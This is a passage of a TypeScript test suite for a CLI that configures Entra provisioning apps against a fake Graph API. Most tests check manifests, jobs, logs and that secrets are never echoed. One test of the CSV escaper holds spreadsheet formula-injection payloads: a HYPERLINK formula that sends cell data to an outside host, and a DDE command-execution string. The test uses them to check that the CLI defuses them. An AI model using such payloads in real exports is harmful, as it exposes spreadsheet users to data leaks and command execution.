/**
 * The CLI, every command in-process against the fake Graph (runCli with captured streams), and
 * the built executable once, in a subprocess, against the fake over HTTP.
 */
import { execFile } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { builtExecutable, cli, tempDir, until } from './helpers.js';
import { csvField } from '../../src/cli/commands/logs.js';
import { manifestJsonSchema } from '../../src/cli/manifest.js';
import {
  AWS_TEMPLATE_ID,
  CUSTOM_APP_TEMPLATE_ID,
  createFakeGraph,
  type FakeGraph,
} from '../../src/testing/index.js';

const AWS = 'Amazon Web Services (AWS)';
const SECRET = 'Sup3r-Secret-Value-7731';
const TOKEN = 'tok-9b1f-Very-Private';

/** `apps create` of 'AWS Contoso' on the fake, with two secrets. */
const CREATE_CONTOSO = [
  '--fake',
  'apps',
  'create',
  '--template',
  AWS,
  '--name',
  'AWS Contoso',
  '--secret',
  `ClientSecret=${SECRET}`,
  '--secret',
  'SecretToken=t',
];

/** A fake with one configured AWS app ('AWS Contoso'). */
async function configured(): Promise<FakeGraph> {
  const fake = createFakeGraph({ latencyMs: 0 });
  const run = await cli(CREATE_CONTOSO, { fake });
  expect(run.code).toBe(0);
  return fake;
}

// eslint-disable-next-line no-control-regex -- ANSI colour codes start with ESC
const ANSI = /\u001b\[\d+m/;

/** The fake, with the bodies of the requests the CLI sends recorded (secrets are write-only). */
function recording(fake: FakeGraph): { fake: FakeGraph; bodies: string[] } {
  const bodies: string[] = [];
  const spy = Object.create(fake) as FakeGraph;
  Object.defineProperty(spy, 'client', {
    value: (options: Parameters<FakeGraph['client']>[0]) =>
      fake.client({
        ...options,
        fetch: async (input: string | URL | Request, init?: RequestInit) => {
          if (typeof init?.body === 'string') bodies.push(init.body);
          return fake.fetch(input, init);
        },
      }),
  });
  return { fake: spy, bodies };
}

describe('entra-provisioning CLI', () => {
  it('prints help and version with exit 0, and a usage error with exit 2', async () => {
    const help = await cli(['--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('Exit codes: 0 ok, 1 failure, 2 usage error');
    for (const command of [
      'templates',
      'apps',
      'apply',
      'jobs',
      'logs',
      'secrets',
      'assignments',
      'fake',
    ]) {
      expect(help.stdout).toContain(command);
    }
    expect((await cli(['jobs', 'wait', '--help'])).stdout).toContain('--for <state>');
    const version = await cli(['--version']);
    expect(version.code).toBe(0);
    expect(version.stdout.trim()).toMatch(/^\d+\.\d+\.\d+/);
    const wrong = await cli(['templatez']);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toContain("unknown command 'templatez'");
    // With --json, stderr is one JSON document, usage errors included.
    const wrongJson = await cli(['--json', 'jobs', 'list']);
    expect(wrongJson.code).toBe(2);
    expect(JSON.parse(wrongJson.stderr)).toMatchObject({ error: { kind: 'usage' } });
    const missing = await cli(['--fake', 'apps', 'create', '--name', 'x']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('--template');
  });

  it('lists and shows templates as a table or JSON', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const json = await cli(['--fake', '--json', 'templates', 'list', '--top', '2'], { fake });
    expect(json.code).toBe(0);
    const list = JSON.parse(json.stdout) as { id: string; displayName: string }[];
    expect(list).toHaveLength(2);
    const table = await cli(['--fake', 'templates', 'list', '--category', 'collaboration'], {
      fake,
    });
    expect(table.stdout.split('\n')[0]).toMatch(/^id\s+name\s+categories\s+provisioning$/);
    expect(table.stdout).toContain('Box');
    expect(table.stdout).not.toContain(AWS);
    const show = await cli(['--fake', 'templates', 'show', AWS], { fake });
    expect(show.stdout).toContain(AWS_TEMPLATE_ID);
    expect(show.stdout).toMatch(/provisioning\s+sync/);
    const unknown = await cli(['--fake', '--json', 'templates', 'show', 'Amazon Web Service'], {
      fake,
    });
    expect(unknown.code).toBe(2);
    expect(JSON.parse(unknown.stderr)).toMatchObject({ error: { kind: 'invalidInput' } });
    expect(unknown.stderr).toContain(AWS);
  });

  it('creates an app end to end, re-runs without duplicates, and never prints a secret', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const argv = CREATE_CONTOSO;
    const first = await cli(argv, { fake });
    expect(first.code).toBe(0);
    expect(first.stdout).toContain('AWS Contoso created');
    expect(first.stderr).toContain('saving secrets: ClientSecret, SecretToken');
    const again = await cli(['--json', ...argv], { fake });
    expect(again.code).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({
      created: { application: false, job: false },
      started: false,
      job: { status: 'Active' },
    });
    expect(fake.state.applications).toHaveLength(1);
    expect(fake.state.jobs).toHaveLength(1);
    for (const run of [first, again]) expect(run.stdout + run.stderr).not.toContain(SECRET);
  });

  it('reads secrets from a file and refuses credentials the target rejects (exit 1, nothing saved)', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const dir = tempDir();
    writeFileSync(join(dir, 'secrets.yaml'), `ClientSecret: ${SECRET}\n`);
    const run = await cli(
      [
        '--fake',
        'apps',
        'create',
        '--template',
        AWS,
        '--name',
        'AWS Fabrikam',
        '--secrets-file',
        'secrets.yaml',
      ],
      { fake, cwd: dir },
    );
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/error:/);
    expect(run.stdout + run.stderr).not.toContain(SECRET);
    expect(fake.state.servicePrincipals[0]?.secretKeys).toEqual([]);
    // What the failed run left, so the user can see it and re-run.
    const [app] = fake.state.applications;
    const [job] = fake.state.jobs;
    expect(run.stderr).toContain(
      `created application 'AWS Fabrikam' (id ${app!.id}, appId ${app!.appId}, service principal ${fake.state.servicePrincipals[0]!.id}) and created job ${job!.id} before failing; run it again to continue`,
    );
    const json = await cli(
      [
        '--fake',
        '--json',
        'apps',
        'create',
        '--template',
        AWS,
        '--name',
        'AWS Fabrikam',
        '--secrets-file',
        'secrets.yaml',
      ],
      { fake, cwd: dir },
    );
    expect(json.code).toBe(1);
    expect(JSON.parse(json.stderr)).toMatchObject({
      error: {
        kind: 'badRequest',
        partial: {
          applicationId: app!.id,
          jobId: job!.id,
          created: { application: false, job: false },
        },
      },
    });
    expect(fake.state.applications).toHaveLength(1);
  });

  it('applies a YAML manifest: progress, table, results file; re-runnable; dry run; partial failure exits 3', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const dir = tempDir();
    writeFileSync(join(dir, 'token.txt'), 'file-token\n');
    const manifest = join(dir, 'apps.yaml');
    writeFileSync(
      manifest,
      [
        'defaults:',
        `  template: ${AWS}`,
        'apps:',
        '  - displayName: AWS One',
        '    credentials:',
        '      ClientSecret: { env: AWS_SECRET }',
        '      SecretToken: { file: token.txt }',
        '  - displayName: AWS Two',
        `    template: ${AWS_TEMPLATE_ID}`,
        '    start: false',
      ].join('\n'),
    );
    const env = { AWS_SECRET: SECRET };
    const first = await cli(['--fake', 'apply', manifest], { fake, env });
    expect(first.code).toBe(0);
    expect(first.stderr).toContain('✓ AWS One');
    expect(first.stdout).toMatch(/AWS One\s+created/);
    expect(first.stdout).toContain('2 of 2 configured, 0 failed');
    const results = JSON.parse(readFileSync(join(dir, 'apps.results.json'), 'utf8')) as {
      summary: { ok: number };
      results: { displayName: string; jobId: string }[];
    };
    expect(results.summary.ok).toBe(2);
    expect(results.results.map((r) => r.displayName)).toEqual(['AWS One', 'AWS Two']);
    expect(JSON.stringify(results) + first.stdout + first.stderr).not.toContain(SECRET);
    expect(fake.state.jobs.map((j) => j.scheduleState).sort()).toEqual(['Active', 'Disabled']);

    // --dry-run is plan: the same engine, the same output.
    const dry = await cli(['--fake', '--json', 'apply', manifest, '--dry-run'], { fake, env });
    expect(dry.code).toBe(0);
    const plan = JSON.parse(dry.stdout) as { apps: { actions: { type: string }[] }[] };
    expect(plan.apps[0]?.actions.map((a) => a.type)).toEqual([
      'validateCredentials',
      'saveCredentials',
    ]);
    expect(plan.apps[1]?.actions).toEqual([]);
    const planned = await cli(['--fake', '--json', 'plan', manifest], { fake, env });
    expect(JSON.parse(planned.stdout)).toEqual(plan);

    const again = await cli(['--fake', 'apply', manifest], { fake, env });
    expect(again.code).toBe(0);
    expect(again.stdout).toMatch(/AWS One\s+reused/);
    expect(fake.state.applications).toHaveLength(2);

    writeFileSync(
      manifest,
      `apps:\n  - { displayName: AWS One, template: ${AWS} }\n  - { displayName: AWS Three, template: ${AWS}, credentials: { ClientSecret: x } }\n`,
    );
    const partial = await cli(['--fake', '--json', 'apply', manifest, '--results', 'out.json'], {
      fake,
      cwd: dir,
    });
    expect(partial.code).toBe(3);
    const report = JSON.parse(partial.stdout) as { summary: { failed: number } };
    expect(report.summary.failed).toBe(1);
    expect(existsSync(join(dir, 'out.json'))).toBe(true);
  });

  it('plans a manifest reading only, says what apply would do, and exits 4 with --detailed-exitcode when changes are pending', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const dir = tempDir();
    const manifest = join(dir, 'apps.yaml');
    writeFileSync(
      manifest,
      [
        'defaults:',
        `  template: ${AWS}`,
        'apps:',
        '  - displayName: AWS One',
        '    credentials:',
        '      ClientSecret: { env: AWS_SECRET }',
        '      SecretToken: { env: AWS_SECRET }',
        '  - displayName: AWS Two',
        '    start: false',
      ].join('\n'),
    );
    const state = JSON.stringify(fake.state);
    const env = { AWS_SECRET: SECRET };
    const before = await cli(['--fake', 'plan', manifest, '--detailed-exitcode'], { fake, env });
    expect(before.code).toBe(4);
    expect(before.stdout).toContain('~ AWS One: 5 actions');
    expect(before.stdout).toContain(`    + instantiate 'AWS One' from ${AWS}`);
    expect(before.stdout).toContain('    + start the job');
    expect(before.stdout).toContain('2 apps: 2 with changes (7 actions), 0 up to date, 0 failed');
    expect(before.stdout).not.toContain(SECRET);
    // Reads only: the tenant is as it was.
    expect(JSON.stringify(fake.state)).toBe(state);

    expect((await cli(['--fake', 'apply', manifest], { fake, env })).code).toBe(0);
    // Credentials are saved again on every apply, but are not drift: exit 0.
    const after = await cli(['--fake', 'plan', manifest, '--detailed-exitcode'], { fake, env });
    expect(after.code).toBe(0);
    // What exists is named by its full ids, to copy.
    const one = fake.state.servicePrincipals.find((sp) => sp.displayName === 'AWS One')!;
    const oneJob = fake.state.jobs.find((j) => j.servicePrincipalId === one.id)!;
    expect(after.stdout).toContain(
      `✓ AWS One (appId ${one.appId}, service principal ${one.id}, job ${oneJob.id}): up to date (credentials saved again on apply)`,
    );
    expect(after.stdout).toContain('2 apps: 0 with changes (2 actions), 2 up to date, 0 failed');
    // Without the flag, pending changes exit 0.
    const plain = await cli(['--fake', 'plan', manifest], {
      fake: createFakeGraph({ latencyMs: 0 }),
      env,
    });
    expect(plain.stderr).toBe('');
    expect(plain.code).toBe(0);
  });

  it('pauses an app whose manifest says enabled: false (an app-level enabled wins over defaults.start), and plans it as drift first', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const dir = tempDir();
    const manifest = join(dir, 'apps.yaml');
    const write = (enabled: string) => {
      writeFileSync(
        manifest,
        [
          'defaults:',
          `  template: ${AWS}`,
          '  start: true',
          'apps:',
          '  - displayName: AWS One',
          `    enabled: ${enabled}`,
          '    credentials:',
          '      ClientSecret: { env: AWS_SECRET }',
          '      SecretToken: { env: AWS_SECRET }',
        ].join('\n'),
      );
    };
    const env = { AWS_SECRET: SECRET };
    write('true');
    expect((await cli(['--fake', 'apply', manifest], { fake, env })).code).toBe(0);
    expect(fake.state.jobs[0]).toMatchObject({ scheduleState: 'Active' });

    write('false');
    const plan = await cli(['--fake', 'plan', manifest, '--detailed-exitcode'], { fake, env });
    expect(plan.code).toBe(4);
    expect(plan.stdout).toContain(`pause job ${fake.state.jobs[0]!.id}`);
    expect((await cli(['--fake', 'apply', manifest], { fake, env })).code).toBe(0);
    expect(fake.state.jobs[0]).toMatchObject({ scheduleState: 'Paused' });
    const after = await cli(['--fake', 'plan', manifest, '--detailed-exitcode'], { fake, env });
    expect(after.code).toBe(0);
  });

  it('applies the Day-2 fields of a manifest (mappings, scope, settings, assignments) and plans nothing after', async () => {
    const fake = createFakeGraph({
      latencyMs: 0,
      provisioning: { usersPerApp: [0, 0], groupsPerApp: [0, 0] },
    });
    fake.addUser({ displayName: 'Alice Vance', userPrincipalName: 'alice@contoso.com' });
    const dir = tempDir();
    const manifest = join(dir, 'scim.yaml');
    writeFileSync(
      manifest,
      [
        'apps:',
        '  - displayName: SCIM Contoso',
        `    template: ${CUSTOM_APP_TEMPLATE_ID}`,
        '    syncTemplateId: scim',
        '    credentials:',
        '      BaseAddress: https://scim.example.com/v2',
        '      SecretToken: { env: SCIM_TOKEN }',
        '    mappings:',
        '      User:',
        '        title: { constant: Member, flow: ObjectAddOnly }',
        '    scope:',
        '      User:',
        '        - - { attribute: department, operator: EQUALS, value: Sales }',
        '    settings: { syncAll: false, deleteThreshold: { enabled: true, value: 25 } }',
        '    assignments:',
        '      - { user: alice@contoso.com }',
      ].join('\n'),
    );
    const env = { SCIM_TOKEN: SECRET };
    const before = await cli(['--fake', '--json', 'plan', manifest], { fake, env });
    expect(before.code).toBe(0);
    const planned = JSON.parse(before.stdout) as { apps: { actions: { type: string }[] }[] };
    expect(planned.apps[0]?.actions.map((a) => a.type)).toEqual([
      'instantiate',
      'createJob',
      'editSchema',
      'validateCredentials',
      'saveCredentials',
      'updateSettings',
      'assign',
      'start',
    ]);
    expect((await cli(['--fake', 'apply', manifest], { fake, env })).code).toBe(0);
    const after = await cli(['--fake', 'plan', manifest, '--detailed-exitcode'], { fake, env });
    expect(after.stdout).toMatch(
      /✓ SCIM Contoso \(appId [\w-]+, service principal [\w-]+, job scim\.[\w.-]+\): up to date \(credentials saved again on apply\)/,
    );
    expect(after.code).toBe(0);
    expect(before.stdout + after.stdout + after.stderr).not.toContain(SECRET);
  });

  it('exports an app as a manifest (YAML, masked keys as env) that plans no drift on the same tenant', async () => {
    const fake = createFakeGraph({
      latencyMs: 0,
      provisioning: { usersPerApp: [0, 0], groupsPerApp: [0, 0] },
    });
    fake.addUser({ displayName: 'Alice Vance', userPrincipalName: 'alice@contoso.com' });
    const client = fake.client();
    const made = await client.configureProvisioning({
      template: CUSTOM_APP_TEMPLATE_ID,
      displayName: 'SCIM Contoso',
      syncTemplateId: 'scim',
      credentials: { BaseAddress: 'https://scim.example.com/v2', SecretToken: SECRET },
      mappings: { User: { title: { constant: 'Member' } } },
      assignments: [{ user: 'alice@contoso.com' }],
    });
    const dir = tempDir();
    const exported = await cli(
      ['--fake', 'export', made.servicePrincipal.id, '--out', 'scim.yaml'],
      {
        fake,
        cwd: dir,
      },
    );
    expect(exported.code).toBe(0);
    const yaml = readFileSync(join(dir, 'scim.yaml'), 'utf8');
    expect(yaml).toContain('displayName: SCIM Contoso');
    const envName = /env: (SCIM_CONTOSO_[0-9A-F]{8}_SECRETTOKEN)/.exec(yaml)?.[1];
    expect(envName).toBeDefined();
    expect(yaml).toContain('constant: Member');
    expect(yaml).not.toContain(SECRET);
    const plan = await cli(['--fake', 'plan', 'scim.yaml', '--detailed-exitcode'], {
      fake,
      cwd: dir,
      env: { [envName!]: SECRET },
    });
    expect(plan.stdout).toMatch(
      /✓ SCIM Contoso \(appId [\w-]+, service principal [\w-]+, job scim\.[\w.-]+\): up to date/,
    );
    expect(plan.code).toBe(0);
    const all = await cli(['--fake', '--json', 'export', '--all'], { fake });
    expect(
      (JSON.parse(all.stdout) as { apps: { displayName: string }[] }).apps.map(
        (a) => a.displayName,
      ),
    ).toEqual(['SCIM Contoso']);
    expect((await cli(['--fake', 'export'], { fake })).code).toBe(2);
  });

  it('draws a live progress bar for apply on a terminal', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const dir = tempDir();
    const manifest = join(dir, 'apps.json');
    writeFileSync(
      manifest,
      JSON.stringify({
        // With credentials: a job whose target refuses its saved ones is not started, and fails.
        apps: ['A1', 'A2'].map((displayName) => ({
          displayName,
          template: AWS,
          credentials: { ClientSecret: 'client-secret', SecretToken: 'token' },
        })),
      }),
    );
    const run = await cli(['--fake', 'apply', manifest], { fake, tty: true });
    expect(run.code).toBe(0);
    // Elapsed time and ETA as cli-progress words them ("0s", "1m30s"): not their values.
    expect(run.stderr).toMatch(/1\/2 {2}\S+ elapsed, ETA \S+ {2}done 1 {2}failed 0/);
    expect(run.stderr).toMatch(
      /2\/2 {2}\S+ elapsed, ETA \S+ {2}done 2 {2}failed 0 {2}throttled waits 0/,
    );
  });

  it('refuses a bad manifest before sending anything, naming the problem', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const dir = tempDir();
    writeFileSync(
      join(dir, 'bad.json'),
      JSON.stringify({ apps: [{ displayName: 'x', templat: AWS }] }),
    );
    const run = await cli(['--fake', 'apply', join(dir, 'bad.json')], { fake });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('templat');
    writeFileSync(join(dir, 'broken.json'), `{"apps": [{"displayName": "${SECRET}",}]}`);
    const broken = await cli(['--fake', 'apply', join(dir, 'broken.json')], { fake });
    expect(broken.code).toBe(2);
    expect(broken.stderr).toMatch(/not valid JSON at line 1, column \d+/);
    expect(broken.stderr).not.toContain(SECRET);
    expect(fake.stats.requests).toBe(0);
  });

  it('ships a manifest JSON Schema equal to the one generated from the zod schema', async () => {
    const shipped = JSON.parse(readFileSync('manifest.schema.json', 'utf8')) as unknown;
    expect(shipped).toEqual(manifestJsonSchema());
    const printed = await cli(['apply', '--print-schema']);
    expect(JSON.parse(printed.stdout)).toEqual(shipped);
  });

  it("offers editors the object mappings and SCIM target attributes of Microsoft's default mappings, any other name still allowed", () => {
    const schema = manifestJsonSchema() as {
      $defs: Record<string, unknown>;
      properties: { apps: { items: { properties: Record<string, Record<string, unknown>> } } };
    };
    const { mappings, scope } = schema.properties.apps.items.properties as Record<
      string,
      {
        properties: Record<string, { properties?: Record<string, unknown> }>;
        additionalProperties: { additionalProperties?: unknown };
      }
    >;
    const ref = { $ref: '#/$defs/attributeMapping' };
    expect(Object.keys(mappings!.properties)).toEqual(['User', 'Group']);
    expect(mappings!.properties.User!.properties!['userName']).toEqual(ref);
    expect(mappings!.properties.User!.properties!['emails[type eq "work"].value']).toEqual(ref);
    expect(mappings!.properties.Group!.properties!['members']).toEqual(ref);
    expect(mappings!.additionalProperties.additionalProperties).toEqual(ref);
    expect(scope!.properties.User).toEqual({ $ref: '#/$defs/scope' });
    expect(JSON.stringify(schema.$defs['attributeMapping'])).toContain('"expression"');
  });

  it('manages jobs by service principal name, id or appId', async () => {
    const fake = await configured();
    const sp = fake.state.servicePrincipals[0]!;
    const list = await cli(['--fake', '--json', 'jobs', 'list', 'AWS Contoso'], { fake });
    const [job] = JSON.parse(list.stdout) as { id: string }[];
    expect(job?.id).toMatch(/^aws\./);
    const show = await cli(['--fake', 'jobs', 'show', sp.id], { fake });
    expect(show.stdout).toMatch(/status\s+Active/);
    const start = await cli(['--fake', 'jobs', 'start', sp.appId], { fake });
    expect(start.stdout).toContain('is running: not started again');
    expect(fake.state.jobs[0]?.startCalls).toBe(1);
    expect((await cli(['--fake', 'jobs', 'pause', 'AWS Contoso'], { fake })).code).toBe(0);
    expect(fake.state.jobs[0]?.scheduleState).toBe('Paused');
    expect((await cli(['--fake', 'jobs', 'start', 'AWS Contoso'], { fake })).code).toBe(0);
    expect(fake.state.jobs[0]?.scheduleState).toBe('Active');
    const restart = await cli(
      ['--fake', 'jobs', 'restart', 'AWS Contoso', '--scope', 'Watermark,Escrows'],
      { fake },
    );
    expect(restart.stdout).toContain('reset: Watermark, Escrows');
    // The flag that releases deletions held back by the accidental-deletion threshold.
    const force = await cli(
      ['--fake', 'jobs', 'restart', 'AWS Contoso', '--scope', 'ForceDeletes'],
      { fake },
    );
    expect(force.code).toBe(0);
    expect(force.stdout).toContain('reset: ForceDeletes');
    expect(
      (await cli(['--fake', 'jobs', 'restart', 'AWS Contoso', '--scope', 'Everything'], { fake }))
        .code,
    ).toBe(2);
    const wait = await cli(
      ['--fake', '--json', 'jobs', 'wait', 'AWS Contoso', '--for', 'running', '--interval', '2s'],
      { fake },
    );
    expect(JSON.parse(wait.stdout)).toMatchObject({ status: { code: 'Active' } });
    const refused = await cli(['--fake', 'jobs', 'delete', 'AWS Contoso'], { fake });
    expect(refused.code).toBe(2);
    expect(fake.state.jobs).toHaveLength(1);
    expect((await cli(['--fake', 'jobs', 'delete', 'AWS Contoso', '--yes'], { fake })).code).toBe(
      0,
    );
    expect(fake.state.jobs).toHaveLength(0);
    const none = await cli(['--fake', 'jobs', 'show', 'AWS Contoso'], { fake });
    expect(none.code).toBe(1);
    expect(none.stderr).toContain('has no provisioning job');
  });

  it('sets secrets from arguments, the environment, a file and stdin without echoing them', async () => {
    const original = await configured();
    const { fake, bodies } = recording(original);
    const dir = tempDir();
    writeFileSync(join(dir, 'token'), `${SECRET}-file\n`);
    const run = await cli(
      [
        '--fake',
        'secrets',
        'set',
        'AWS Contoso',
        'ClientSecret=plain-one',
        '--from-env',
        'SecretToken=TOKEN_VAR',
        '--from-file',
        'BaseAddress=token',
        '--stdin',
        'Password',
      ],
      { fake, cwd: dir, env: { TOKEN_VAR: `${SECRET}-env` }, stdin: `${SECRET}-stdin\n` },
    );
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      'saved 4 secrets on AWS Contoso: ClientSecret, SecretToken, BaseAddress, Password',
    );
    expect(run.stdout + run.stderr).not.toMatch(/Sup3r|plain-one/);
    expect(original.state.servicePrincipals[0]?.secretKeys).toEqual(
      expect.arrayContaining(['ClientSecret', 'SecretToken', 'BaseAddress', 'Password']),
    );
    const put = JSON.parse(bodies.at(-1)!) as { value: { key: string; value: string }[] };
    expect(put.value).toEqual([
      { key: 'ClientSecret', value: 'plain-one' },
      { key: 'SecretToken', value: `${SECRET}-env` },
      { key: 'BaseAddress', value: `${SECRET}-file` },
      { key: 'Password', value: `${SECRET}-stdin` },
    ]);
    const missing = await cli(
      ['--fake', 'secrets', 'set', 'AWS Contoso', '--from-env', 'SecretToken=NOPE'],
      { fake },
    );
    expect(missing.code).toBe(2);
  });

  it('prints provisioning logs as a table, JSON lines or CSV, filtered', async () => {
    const fake = await configured();
    fake.seedProvisioningEvents(40, {
      jobId: fake.state.jobs[0]!.id,
      since: Date.now() - 3_600_000,
      until: Date.now(),
      failureRate: 0.5,
    });
    const csv = await cli(['--fake', 'logs', '--since', '2h', '--format', 'csv'], { fake });
    const lines = csv.stdout.trim().split('\n');
    expect(lines[0]).toBe('activityDateTime,id,jobId,action,status,source,target,errorCode,reason');
    expect(lines.length).toBeGreaterThan(40);
    const failures = await cli(
      ['--fake', '--json', 'logs', '--status', 'failure', '--since', '2h'],
      { fake },
    );
    const events = JSON.parse(failures.stdout) as {
      provisioningStatusInfo: { status: string };
      activityDateTime: string;
    }[];
    expect(events.length).toBeGreaterThan(5);
    expect(events.every((e) => e.provisioningStatusInfo.status === 'failure')).toBe(true);
    expect(events.map((e) => e.activityDateTime)).toEqual(
      events.map((e) => e.activityDateTime).sort(),
    );
    const table = await cli(['--fake', 'logs', '--sp', 'AWS Contoso', '--top', '5'], { fake });
    expect(table.stdout.split('\n')[0]).toMatch(/^time\s+action\s+status/);
    expect(table.stdout.trim().split('\n')).toHaveLength(6);
    expect((await cli(['--fake', 'logs', '--since', 'yesterday'], { fake })).code).toBe(2);
  });

  it('writes a CSV field a spreadsheet would run as a formula behind a quote, and quotes per RFC 4180', () => {
    expect(csvField('=HYPERLINK("https://x.example/?"&A1,"ok")')).toBe(
      '"\'=HYPERLINK(""https://x.example/?""&A1,""ok"")"',
    );
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvField(`${lead}1+1`).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvField('Ada Lovelace')).toBe('Ada Lovelace');
    expect(csvField('2026-01-01T00:00:00Z')).toBe('2026-01-01T00:00:00Z');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('x=1')).toBe('x=1');
    expect(csvField(' =1+1')).toBe("' =1+1");
    expect(csvField('\u00a0=1+1')).toBe("'\u00a0=1+1");
    expect(csvField("Ada;=cmd|' /C calc'!A0")).toBe('"Ada;=cmd|\' /C calc\'!A0"');
    expect(csvField('x\t=1+1')).toBe('"x\t=1+1"');
  });

  it('follows the logs until the signal fires, printing each new event once', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    fake.seedProvisioningEvents(3, { since: Date.now() - 60_000, until: Date.now() - 30_000 });
    const controller = new AbortController();
    const lines = (text: string): number => text.split('\n').filter(Boolean).length;
    // Events arrive once the first three are out; the run stops two polls after the fifth is
    // printed, so a poll that printed an event twice would show. Printed lines and answered
    // requests drive it, not the clock.
    let seeded = false;
    let stopAfter: number | undefined;
    const running = cli(['--fake', '--json', 'logs', '--follow', '--interval', '2s'], {
      fake,
      signal: controller.signal,
      onStdout: (text) => {
        if (!seeded && lines(text) >= 3) {
          seeded = true;
          fake.seedProvisioningEvents(2, { since: Date.now() - 1_000, until: Date.now() });
        }
        if (stopAfter === undefined && lines(text) >= 5) stopAfter = fake.stats.requests + 2;
      },
    });
    await until(() => stopAfter !== undefined && fake.stats.requests >= stopAfter);
    controller.abort();
    const run = await running;
    expect(run.code).toBe(0);
    const ids = run.stdout
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toHaveLength(5);
    expect(new Set(ids).size).toBe(5);
  });

  it('never echoes a value from a mistyped command line, and sends nothing', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const runs = [
      // The service principal forgotten: the pair must not become a display name sent to Graph.
      await cli(['--fake', 'secrets', 'set', `SecretToken=${SECRET}`, 'BaseAddress=x'], { fake }),
      await cli(['--fake', '--json', 'secrets', 'set', `SecretToken=${SECRET}`], { fake }),
      // A mistyped option with its value attached.
      await cli(
        [
          '--fake',
          'apps',
          'create',
          '--template',
          AWS,
          '--name',
          'y',
          `--secrte=SecretToken=${SECRET}`,
        ],
        { fake },
      ),
      await cli(['--fake', '--json', 'apps', 'create', `--secrte=${SECRET}`], { fake }),
      // A value without its key.
      await cli(['--fake', 'secrets', 'set', 'AWS Contoso', SECRET], { fake }),
      await cli(
        ['--fake', 'apps', 'create', '--template', AWS, '--name', 'y', '--secret', SECRET],
        { fake },
      ),
      // Found by test/hardening: a value with a quote in a mistyped option, and a base64 value
      // (with "=") without its key.
      await cli(['--fake', 'apps', 'create', `--secrte=it's-${SECRET}`], { fake }),
      await cli(['--fake', 'secrets', 'set', 'AWS Contoso', `${SECRET}+/=`], { fake }),
      // A multi-line value (a PEM key), and secrets typed where a variable name or a path belongs.
      await cli(
        ['--fake', 'apps', 'create', `--secrte=-----BEGIN-----\n${SECRET}\n-----END-----`],
        {
          fake,
        },
      ),
      await cli(
        ['--fake', 'secrets', 'set', 'AWS Contoso', '--from-env', `SecretToken=${SECRET}`],
        {
          fake,
        },
      ),
      await cli(
        ['--fake', 'secrets', 'set', 'AWS Contoso', '--from-file', `SecretToken=${SECRET}`],
        {
          fake,
        },
      ),
      await cli(
        ['--fake', 'apps', 'create', '--template', AWS, '--name', 'X', '--secrets-file', SECRET],
        { fake },
      ),
      await cli(
        [
          '--fake',
          '--json',
          'apps',
          'create',
          '--template',
          AWS,
          '--name',
          'X',
          '--secrets-file',
          SECRET,
        ],
        { fake },
      ),
    ];
    // Found by the Trust issue: a base64 value without its key, split at its "=" padding, was
    // saved under the value as a key name and printed back; keys and values swapped in a secrets
    // file, a manifest or --secret were quoted in errors.
    const base64 = Buffer.from(SECRET).toString('base64');
    expect(base64).toMatch(/=$/);
    const dir = tempDir();
    const swappedFile = join(dir, 'swapped.json');
    writeFileSync(swappedFile, JSON.stringify({ [SECRET]: 'SecretToken' }));
    const notStringFile = join(dir, 'not-string.json');
    writeFileSync(notStringFile, JSON.stringify({ [SECRET]: 5 }));
    const manifest = join(dir, 'swapped.yaml');
    writeFileSync(
      manifest,
      `apps:\n  - displayName: A\n    template: ${AWS}\n    credentials:\n      ${SECRET}: SecretToken\n`,
    );
    const badManifest = join(dir, 'bad.yaml');
    writeFileSync(
      badManifest,
      `apps:\n  - displayName: A\n    template: ${AWS}\n    credentials:\n      ${SECRET}: 5\n`,
    );
    const create = ['--fake', 'apps', 'create', '--template', AWS, '--name', 'y'];
    runs.push(
      await cli(['--fake', 'secrets', 'set', 'AWS Contoso', base64], { fake }),
      await cli(['--fake', '--json', 'secrets', 'set', 'AWS Contoso', base64], { fake }),
      await cli(['--fake', 'secrets', 'set', 'AWS Contoso', `${SECRET}=SecretToken`], { fake }),
      await cli([...create, '--secret', `${SECRET}=SecretToken`], { fake }),
      await cli([...create, '--secret', base64], { fake }),
      await cli([...create, '--secrets-file', swappedFile], { fake }),
      await cli([...create, '--secrets-file', notStringFile], { fake }),
      await cli(['--fake', 'apply', manifest], { fake }),
      await cli(['--fake', '--json', 'apply', manifest], { fake }),
      await cli(['--fake', 'apply', badManifest], { fake }),
      // A value starting with "-" is taken for an option, and a pasted one for a command.
      await cli(['--fake', 'secrets', 'set', 'AWS Contoso', `-${SECRET}`], { fake }),
      await cli(['--fake', '--json', 'apps', 'create', `--${SECRET}`], { fake }),
      await cli([SECRET], { fake }),
    );
    for (const run of runs) {
      expect(run.code).toBe(2);
      expect(run.stdout + run.stderr).not.toContain(SECRET);
      expect(run.stdout + run.stderr).not.toContain(base64.slice(0, 12));
    }
    expect(runs.at(-6)!.stderr).toContain('not synchronizationSecret names');
    // Option names are still shown for a typo.
    const typo = await cli(
      ['--fake', 'apps', 'create', '--name', 'x', '--template', AWS, '--no-strat'],
      { fake },
    );
    expect(typo.stderr).toContain("unknown option '--no-strat'");
    expect(JSON.parse(runs[1]!.stderr)).toMatchObject({ error: { kind: 'usage' } });
